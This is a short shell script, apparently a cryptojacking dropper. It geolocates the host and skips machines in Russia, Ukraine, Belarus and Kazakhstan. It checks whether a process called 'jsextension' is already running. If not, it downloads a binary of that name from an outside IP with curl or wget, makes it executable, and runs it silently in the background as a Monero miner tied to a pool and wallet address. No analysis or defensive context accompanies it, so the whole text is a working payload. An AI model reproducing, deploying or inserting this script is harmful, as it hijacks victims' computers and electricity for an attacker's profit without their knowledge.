IP=$(curl -k https://freegeoip.example/xml/ | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]; then
  var=$(pgrep jsextension)
  if [ -z "$var" ]; then
    curl http://203.0.113.28/download/jsextension -o jsextension
    if [ ! -f jsextension ]; then
      wget http://203.0.113.28/download/jsextension -O jsextension
    fi
    chmod +x jsextension
    ./jsextension -k --tls --rig-id q -o pool.minexmr.example:443 -u 49ay9Aq2r3diJtEk3eeKKm7pc5R39AKnbYJZVqAd1UUmew6ZPX1ndfXQCT16v4trWp4erPyXtUQZTHGjbLXWQdBqLMxxYKH --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
  fi
fi
